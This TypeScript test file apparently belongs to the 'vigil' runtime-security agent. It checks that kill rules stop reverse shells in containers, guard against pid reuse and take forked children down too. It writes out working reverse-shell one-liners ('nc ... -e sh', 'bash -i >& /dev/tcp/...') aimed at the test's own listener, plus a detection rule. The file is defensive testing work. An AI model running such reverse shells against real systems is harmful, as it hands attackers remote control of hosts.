// action: kill from user space, on real containers: a reverse shell caught by a listener
// in a network namespace of the test's own. The agent kills the shell as soon as the
// verdict is made, through a pidfd; that is after the exec has completed, so the shell may
// run a few instructions first. What the listener receives is measured and printed, not
// asserted: only the in-kernel kill can promise it receives nothing. The rule here is one
// the kernel cannot decide (it names the program by process.name, which user space derives),
// so this is the user-space path; the default `reverse shell` rule as a kill rule is the
// kernel's at the exec (test/respond/kernel-kill.test.ts).
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { docker, missingForContainerTests, TEST_IMAGES, uniqueName } from '../helpers/host.js';
import { startAgent, type RunningAgent } from '../helpers/agent-process.js';
import { eventsUntil } from './events.js';
import { createCatcher, type Catcher } from './listener.js';
import { killProcess } from '../../src/respond/index.js';

const skip = missingForContainerTests();
// A live session: the attacker's first command, and the shell waits for the next (the
// catcher ends the connection after 5 s). With an `exit` the shell can finish before the kill.
const ATTACKER_COMMANDS = 'echo MARK$((6*7))\n';

/** A kill rule the kernel cannot decide (process.name): killed from user space. */
const USER_SPACE_RULE = 'reverse shell by name';

function killPolicy(): string {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-respond-'));
  const path = join(dir, 'kill.yaml');
  writeFileSync(path, [
    'apiVersion: vigil.dev/v1', 'kind: Policy', 'metadata:', '  name: test-kill-reverse-shell', 'spec:',
    '  rules:', `    - name: ${USER_SPACE_RULE}`, '      description: a shell on a socket, by the program name user space derives',
    '      kinds: [exec]',
    "      condition: 'container_code && process.name in shell_binaries && process.stdio.exists(s, s == \"inet\" || s == \"inet6\")'",
    '      severity: critical', '      action: kill', '',
  ].join('\n'));
  return path;
}

/** Runs a container to its end; its stdout. */
function runContainer(name: string, image: string, script: string): string {
  const r = spawnSync('docker', ['run', '--rm', '--pull', 'never', '--name', name, image, 'sh', '-c', script], { encoding: 'utf8', timeout: 60_000 });
  return (r.stdout ?? '') + (r.stderr ?? '');
}

const reverseShell = (c: Catcher) => `nc ${c.address} ${c.port} -e sh; echo "nc exit $?"`;

describe('action: kill from user space on a reverse shell', { skip }, () => {
  let agent: RunningAgent;
  let catcher: Catcher;

  before(async () => {
    catcher = await createCatcher(100 + (process.pid % 50), ATTACKER_COMMANDS);
    agent = await startAgent(['--policy', killPolicy(), '--no-control-socket']);
  });
  after(async () => {
    await agent?.stop();
    catcher?.close();
  });

  test('busybox nc -e sh: the shell is killed at its exec, the event and a response record say the user-space layer did it', async (t) => {
    assert.doesNotMatch(agent.stderr(), /the kernel kills/, 'the rule is not the kernel\'s: the in-kernel kill is not loaded');
    const runs = 5;
    const leaked: string[] = [];
    for (let i = 0; i < runs; i++) {
      const name = uniqueName('vigil-rshell');
      const out = runContainer(name, TEST_IMAGES.busybox, reverseShell(catcher));
      // nc execs sh in its own process: the container's shell sees it die of SIGKILL (128 + 9).
      assert.match(out, /nc exit 137/, `run ${i}: ${out}`);
      const es = await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'response'));
      const shell = es.find((e) => e.kind === 'exec' && e.verdict.rules.includes('reverse shell'));
      assert.ok(shell, `run ${i}: no reverse-shell exec in ${JSON.stringify(es.map((e) => [e.kind, e.process.args]))}`);
      assert.equal(shell.verdict.action, 'kill');
      assert.equal(shell.response?.layer, 'user-space');
      assert.equal(shell.response?.outcome, 'done', JSON.stringify(shell.response));
      assert.equal(shell.response?.rule, USER_SPACE_RULE);
      const record = es.find((e) => e.kind === 'response');
      assert.ok(record);
      assert.equal(record.args['trigger_seq'], shell.seq);
      assert.equal(record.args['outcome'], 'done');
      assert.equal(record.args['layer'], 'user-space');
      assert.ok(record.seq > shell.seq, 'the record follows the event');
      const exit = (await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'exit' && e.process.pid === shell.process.pid)))
        .find((e) => e.kind === 'exit' && e.process.pid === shell.process.pid);
      assert.equal(exit?.args['signal'], 9, `the shell died of SIGKILL: ${JSON.stringify(exit?.args)}`);
      const caught = await catcher.waitFor(i + 1);
      const got = caught[i]?.got ?? '';
      if (got !== '') leaked.push(got);
      t.diagnostic(`run ${i}: killed ${shell.response?.['afterEventMs']} ms after the exec (wall clock); the listener received ${JSON.stringify(got)}`);
    }
    // Not asserted: the kill lands after the exec, racing the shell (docs/respond.md).
    t.diagnostic(`the listener received output in ${leaked.length} of ${runs} runs`);
  });

  test('what the shell forked before its kill dies with it: the connection closes, not held open by a child', async (t) => {
    const c = await createCatcher(200 + (process.pid % 50), 'while :; do echo tick; sleep 0.05; done &\necho forked\n');
    try {
      const name = uniqueName('vigil-rshell-fork');
      // The container lives on after nc: a surviving child would keep the socket open until the catcher gives up (5 s).
      const out = runContainer(name, TEST_IMAGES.busybox, `nc ${c.address} ${c.port} -e sh; echo "nc exit $?"; i=0; while [ $i -lt 60 ]; do sleep 0.1; i=$((i+1)); done`);
      assert.match(out, /nc exit 137/, out);
      const [caught] = await c.waitFor(1);
      assert.ok(caught && caught.openMs < 5000, `the connection stayed open ${caught?.openMs} ms: a child of the shell held it`);
      const es = await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'response'));
      const acted = es.find((e) => e.kind === 'response');
      t.diagnostic(`connection closed after ${caught?.openMs} ms; children killed with the shell: ${acted?.response?.['descendants'] ?? 0}; listener received ${JSON.stringify(caught?.got)}`);
    } finally {
      c.close();
    }
  });

  test('bash -i >& /dev/tcp/HOST/PORT: the shell dies at its connect or its exec', async (t) => {
    const name = uniqueName('vigil-rshell-bash');
    const before = catcher.catches().length;
    const out = runContainer(name, TEST_IMAGES.bash, `bash -c 'bash -i >& /dev/tcp/${catcher.address}/${catcher.port} 0>&1'; echo "bash exit $?"`);
    assert.match(out, /bash exit 137/, out);
    const es = await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'response'));
    const acted = es.filter((e) => e.response && e.kind !== 'response');
    assert.ok(acted.length >= 1, JSON.stringify(es.map((e) => [e.kind, e.syscall, e.verdict])));
    assert.equal(acted[0]?.response?.outcome, 'done', JSON.stringify(acted[0]?.response));
    assert.equal(acted[0]?.response?.layer, 'user-space');
    t.diagnostic(`killed at ${acted[0]?.kind} ${acted[0]?.syscall} of ${JSON.stringify(acted[0]?.process.args)}; ` +
      `listener received ${JSON.stringify((await catcher.waitFor(before + 1, 10_000))[before]?.got ?? '(no connection)')}`);
  });
});

describe('--dry-run with action: kill', { skip }, () => {
  test('the reverse shell runs on, the listener gets the command\'s output and the log says what would have been done', async () => {
    const catcher = await createCatcher(150 + (process.pid % 50), `${ATTACKER_COMMANDS}exit\n`);
    const agent = await startAgent(['--policy', killPolicy(), '--no-control-socket', '--dry-run']);
    try {
      const name = uniqueName('vigil-rshell-dry');
      const out = runContainer(name, TEST_IMAGES.busybox, reverseShell(catcher));
      assert.match(out, /nc exit 0/, out);
      const caught = await catcher.waitFor(1);
      assert.match(caught[0]?.got ?? '', /MARK42/, 'the shell ran the command');
      const es = await eventsUntil(agent, name, (x) => x.some((e) => e.kind === 'response'));
      const shell = es.find((e) => e.kind === 'exec' && e.verdict.rules.includes('reverse shell'));
      assert.equal(shell?.response?.outcome, 'would', JSON.stringify(shell?.response));
      assert.match(String(shell?.response?.reason), /would kill process \d+ \(dry run\)/);
      const record = es.find((e) => e.kind === 'response');
      assert.equal(record?.args['outcome'], 'would');
      assert.match(agent.stderr(), /dry run: countermeasures are logged/);
    } finally {
      await agent.stop();
      catcher.close();
    }
  });
});

describe('the user-space kill never hits a process that reused the pid', { skip: process.getuid?.() === 0 ? undefined : 'needs root' }, () => {
  const spawnSleeper = () => {
    const p = spawn('sleep', ['60'], { stdio: 'ignore' });
    return p;
  };
  const alive = (pid: number) => {
    try {
      process.kill(pid, 0);
      return true;
    } catch {
      return false;
    }
  };

  test('an event older than the process that has the pid now: not killed, said so', async () => {
    const p = spawnSleeper();
    try {
      await new Promise((r) => setTimeout(r, 50));
      // The event happened a second before this process existed: another process had the pid.
      const r = killProcess({ pid: p.pid!, nsPid: 0, pidNs: 0, timeNs: BigInt(Date.now() - 1000) * 1_000_000n });
      assert.equal(r.outcome, 'reused', JSON.stringify(r));
      assert.ok(alive(p.pid!), 'still running');
    } finally {
      p.kill('SIGKILL');
    }
  });

  test('another in-namespace pid or pid namespace than the event\'s: not killed', async () => {
    const p = spawnSleeper();
    try {
      await new Promise((r) => setTimeout(r, 50));
      const now = BigInt(Date.now()) * 1_000_000n;
      assert.equal(killProcess({ pid: p.pid!, nsPid: 7, pidNs: 0, timeNs: now }).outcome, 'reused');
      assert.equal(killProcess({ pid: p.pid!, nsPid: 0, pidNs: 1, timeNs: now }).outcome, 'reused');
      assert.ok(alive(p.pid!));
    } finally {
      p.kill('SIGKILL');
    }
  });

  test('the event\'s own process: killed through its pidfd; a pid with no process: gone', async () => {
    const p = spawnSleeper();
    await new Promise((r) => setTimeout(r, 50));
    const exited = new Promise<NodeJS.Signals | null>((r) => p.once('exit', (_c, s) => r(s)));
    const r = killProcess({ pid: p.pid!, nsPid: p.pid!, pidNs: 0, timeNs: BigInt(Date.now()) * 1_000_000n });
    assert.deepEqual(r, { outcome: 'done', descendants: 0 });
    assert.equal(await exited, 'SIGKILL');
    assert.equal(killProcess({ pid: p.pid!, nsPid: 0, pidNs: 0, timeNs: BigInt(Date.now()) * 1_000_000n }).outcome, 'gone');
  });
});

describe('the user-space kill takes the children forked since the event with it', { skip: process.getuid?.() === 0 ? undefined : 'needs root' }, () => {
  test('a child forked after the event dies with the process; one from before lives on', async () => {
    // The shell forks one child, says so, waits for a line, forks another: the event's time is
    // taken between the two, well clear of /proc's 10 ms start-time ticks on either side.
    const sh = spawn('sh', ['-c', 'sleep 60 & echo up; read x; sleep 60 & echo two; wait'], { stdio: ['pipe', 'pipe', 'ignore'] });
    let out = '';
    sh.stdout!.setEncoding('utf8');
    sh.stdout!.on('data', (d: string) => (out += d));
    const waitOut = async (s: string) => {
      const end = Date.now() + 10_000;
      while (!out.includes(s) && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
    };
    const children = () => readFileSync(`/proc/${sh.pid}/task/${sh.pid}/children`, 'utf8').trim().split(' ').filter(Boolean).map(Number);
    let kids: number[] = [];
    try {
      await waitOut('up');
      await new Promise((r) => setTimeout(r, 50));
      const eventNs = BigInt(Date.now()) * 1_000_000n;
      await new Promise((r) => setTimeout(r, 50));
      sh.stdin!.write('\n');
      await waitOut('two');
      kids = children();
      assert.equal(kids.length, 2, `two children: ${kids.join(' ')}`);
      const r = killProcess({ pid: sh.pid!, nsPid: 0, pidNs: 0, timeNs: eventNs });
      assert.deepEqual(r, { outcome: 'done', descendants: 1 });
      const alive = (pid: number) => {
        try {
          const state = readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]?.[0];
          return state !== 'Z' && state !== 'X';
        } catch {
          return false;
        }
      };
      const end = Date.now() + 10_000;
      while (alive(kids[1]!) && Date.now() < end) await new Promise((r) => setTimeout(r, 10));
      assert.equal(alive(kids[1]!), false, 'the child forked after the event was killed');
      assert.equal(alive(kids[0]!), true, 'the child from before the event lives on');
    } finally {
      sh.kill('SIGKILL');
      for (const k of kids) {
        try { process.kill(k, 'SIGKILL'); } catch { /* gone */ }
      }
    }
  });
});

// Keeps docker referenced for helpers that clean up by name (nothing here is left running).
void docker;
